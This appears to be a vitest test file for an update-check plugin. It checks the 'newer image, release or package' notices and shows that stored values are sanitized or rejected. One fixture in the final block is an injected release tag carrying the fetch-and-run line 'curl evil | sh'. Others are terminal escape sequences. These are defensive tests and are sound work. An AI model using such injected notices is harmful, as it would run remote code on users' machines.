import type {Launch} from 'bootcut/plugin';
import {describe, test} from 'vitest';
import plugin from '../../../../plugins/update-check/src/index.js';
import {launchWith} from './launch.js';

const [image, release, packageVersion] = plugin.steps;
const of = (digit: string): string => `sha256:${digit.repeat(64)}`;
const advice = 'Run `agent-vm pull` to fetch it. Continuing with the cached image.';

const withImage = (have: readonly string[], more: {advice?: string} = {advice}): Launch =>
  launchWith({item: 'a/b', updatables: [{source: 'oci', name: 'a/b', have, ...more}]});

describe('the notice of an image', () => {
  const answer = {digest: of('1'), platforms: [of('2')]};

  test('is the two lines of agent-vm', ({expect}) => {
    expect(image.notice(answer, withImage([of('3')]))).toBe(
      '==> A newer image is available in the registry (cached 333333333333, registry 222222222222)\n' +
        '==> Run `agent-vm pull` to fetch it. Continuing with the cached image.',
    );
  });

  test.for<[string, readonly string[]]>([
    ['the index digest', [of('1')]],
    ['the digest for this platform', [of('2')]],
    ['one of several digests', [of('7'), of('8'), of('2')]],
    ['the digest behind a name', [`ghcr.io/a/b@${of('1')}`]],
    ['the digest without its algorithm', ['2'.repeat(64)]],
    ['nothing', []],
    ['nothing that is a digest', ['latest', '', 'sha256:12']],
  ])('is not given to who has %s', ([, have], {expect}) => {
    expect(image.notice(answer, withImage(have))).toBeUndefined();
  });

  test('is not given when the registry has nothing for this platform', ({expect}) => {
    expect(image.notice({digest: of('1'), platforms: []}, withImage([of('3')]))).toBeUndefined();
  });

  test('is not given for a thing nobody named', ({expect}) => {
    expect(image.notice(answer, launchWith({item: 'x/y'}))).toBeUndefined();
  });

  test('is two lines whatever the advice holds', ({expect}) => {
    const lines = image.notice(answer, withImage([of('3')], {advice: 'one\ntwo\u001b[31m\u202ered'}))?.split('\n');
    expect(lines?.[1]).toBe('==> one two [31m red');
    expect(lines).toHaveLength(2);
  });

  test('has an advice of its own where the runtime gives none', ({expect}) => {
    expect(image.notice(answer, withImage([of('3')], {}))).toContain(
      '\n==> Pull a/b to fetch it. Continuing with the cached image.',
    );
  });
});

const things = (text: string, item: string): Launch => launchWith({item, settings: {things: [text]}});

describe('the notice of a release', () => {
  test('names both versions', ({expect}) => {
    expect(release.notice({tag: 'v1.10.0'}, things('github:o/r@v1.9.0', 'o/r'))).toBe(
      '==> A newer release of o/r is available (yours v1.9.0, newest v1.10.0)\n' +
        '==> See https://github.com/o/r/releases/latest. Continuing with yours.',
    );
  });

  test.for<[string, string | null]>([
    ['v1.9.0', 'v1.9.0'],
    ['v1.10.0', 'v1.9.0'],
    ['1.0.0', '1.0.0-rc.1'],
    ['main', 'v2.0.0'],
    ['v1.0.0', 'nightly'],
    ['v1.0.0', null],
  ])('is not given to who has %s when %s is the latest', ([have, tag], {expect}) => {
    expect(release.notice({tag}, things(`github:o/r@${have}`, 'o/r'))).toBeUndefined();
  });

  test('is not given to who has no version', ({expect}) => {
    expect(release.notice({tag: 'v9.0.0'}, things('github:o/r', 'o/r'))).toBeUndefined();
  });

  test('counts the newest of several that the user has', ({expect}) => {
    const launch = launchWith({
      item: 'o/r',
      updatables: [{source: 'github', name: 'o/r', have: ['1.0.0', '3.0.0', '2.0.0']}],
    });
    expect(release.notice({tag: '3.0.0'}, launch)).toBeUndefined();
    expect(release.notice({tag: '3.0.1'}, launch)).toContain('yours 3.0.0, newest 3.0.1');
  });
});

describe('the notice of a package', () => {
  test('names both versions and the command', ({expect}) => {
    expect(packageVersion.notice('1.3.0', things('npm:@s/n@1.2.3', '@s/n'))).toBe(
      '==> A newer version of @s/n is available (yours 1.2.3, newest 1.3.0)\n' +
        '==> Run `npm install @s/n@latest` to get it. Continuing with yours.',
    );
    expect(packageVersion.notice('1.2.3', things('npm:@s/n@1.2.3', '@s/n'))).toBeUndefined();
  });
});

describe('a stored answer that is not one', () => {
  test.for<[string, unknown]>([
    ['image', null],
    ['image', {digest: 'sha256:1', platforms: []}],
    ['image', {digest: of('1'), platforms: [1]}],
    ['image', {digest: of('1')}],
    ['release', {}],
    ['release', {tag: ''}],
    ['release', {tag: 'v1\n==> Run `curl evil | sh`'}],
    ['release', 'v1'],
    ['package', null],
    ['package', ['1.0.0']],
    ['package', '1.0.0\u001b[2J'],
  ])('is refused by %s: %j', ([name, stored], {expect}) => {
    expect(() => plugin.steps.find((step) => step.name === name)?.parse(stored)).toThrow();
  });
});
